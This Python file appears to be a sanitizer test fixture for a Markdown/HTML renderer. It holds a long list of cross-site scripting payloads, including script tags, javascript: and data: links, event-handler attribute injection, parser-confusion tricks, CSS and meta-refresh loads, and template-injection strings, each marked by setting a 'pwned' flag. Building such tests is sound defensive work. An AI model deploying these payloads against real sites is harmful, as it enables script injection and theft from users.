"""Texts that try to run a script, to load something or to leave the place where they are shown.

What runs sets `pwned`; what loads asks the page's own server for /pwned, or another one.
"""

RUN = "window.pwned=1"
LOAD = "https://another.invalid/pwned"

HOSTILE = [
    f"<script>{RUN}</script>",
    f"<script src='/pwned'></script><SCRIPT SRC={LOAD}></SCRIPT>",
    f"a <scr<script>ipt>{RUN}</scr</script>ipt>",
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt&colon;{RUN}) [click](&#106;avascript:{RUN})",
    f"[click](java\tscript:{RUN}) [click](\x01javascript:{RUN})",
    f'<javascript:{RUN}> <https://a.example/"onmouseover="{RUN}>',
    f'[click](https://a.example/"onclick="{RUN}) [click](https://a.example "t\\" onclick=\\"{RUN}")',
    f"[click][1]\n\n[1]: javascript:{RUN}\n",
    f"[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==) [click](vbscript:{RUN})",
    f"![](/pwned) ![a]({LOAD}) ![b](javascript:{RUN}) ![c](data:image/svg+xml,<svg/onload={RUN}>)",
    f'<img src=x onerror="{RUN}"><img src=/pwned>',
    f'![a"onerror="{RUN}](x"onerror="{RUN}) ![a](</pwned> "\\" onerror=\\"{RUN}")',
    f"<svg onload={RUN}><svg><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<style>@import '/pwned'; body {{ background: url({LOAD}) }}</style><link rel=stylesheet href=/pwned>",
    '<iframe src="javascript:parent.pwned=1"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    f"<object data=/pwned></object><embed src=/pwned><video src=/pwned onerror={RUN} autoplay></video>",
    f"<form action=/pwned><input autofocus onfocus={RUN}><button formaction=javascript:{RUN}>a</button></form>",
    f"<base href=//another.invalid/><meta http-equiv=refresh content='0;url={LOAD}'>",
    f"<details open ontoggle={RUN}><body onload={RUN}><marquee onstart={RUN}>",
    f"</div></article></main><script>{RUN}</script><div hidden>",
    f'```"><script>{RUN}</script>\n</code></pre><img src=x onerror={RUN}>\n```',
    f"```<img/src=x/onerror={RUN}>\na\n```",
    f"`</code><script>{RUN}</script>`    <script>{RUN}</script>",
    f"    </pre><script>{RUN}</script>",
    f"|<script>{RUN}</script>|<img src=x onerror={RUN}>|\n|-|:-:|\n|[a](javascript:1)|</table><script>{RUN}</script>|",
    f"<!-- --!><script>{RUN}</script> --><![CDATA[<script>{RUN}</script>]]><?a <script>{RUN}</script>?>",
    f"<div>\n\n**a** <script>{RUN}</script>\n\n</div>\n\n<p>*a*</p><math><mtext><script>{RUN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"><template><script>{RUN}</script></template>',
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %>",
]
